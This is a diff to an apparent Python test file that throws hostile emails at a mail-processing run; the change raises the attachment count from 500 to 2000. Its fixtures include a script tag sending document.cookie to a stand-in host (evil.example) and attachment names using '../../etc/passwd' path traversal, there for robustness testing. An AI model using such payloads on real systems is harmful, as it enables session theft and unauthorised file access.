@@ -1,5 +1,5 @@
 """Hostile input never stops the run: 10 MB bodies, HTML full of scripts, broken and deeply nested
-MIME, garbage, hundreds of attachments with path-like names, oversized messages, tampered tokens. Each is
+MIME, garbage, thousands of attachments with path-like names, oversized messages, tampered tokens. Each is
 recorded (applied, or on the attention list with why) and the messages after it are still read."""
 
 from __future__ import annotations
@@ -58,7 +58,7 @@ HOSTILE: dict[str, Callable[[Sent], bytes]] = {
                                  + "<script>document.location='http://evil.example/'+document.cookie</script><p>x</p>"
                                  * 120_000 + "</body></html>").encode(),
     "many_attachments": lambda sent: multipart(sent, "many@x", "".join(
-        attachment(f"../../etc/passwd{i}.png") for i in range(500))),
+        attachment(f"../../etc/passwd{i}.png") for i in range(2000))),
     "path_names": lambda sent: multipart(sent, "paths@x", "".join(attachment(n, t) for n, t in PATH_NAMES)),
     "deep_nesting": lambda sent: (head(sent, "deep@x", 'multipart/mixed; boundary="n0"') + "\r\n" + NESTED
                                   + "接收\r\n").encode(),
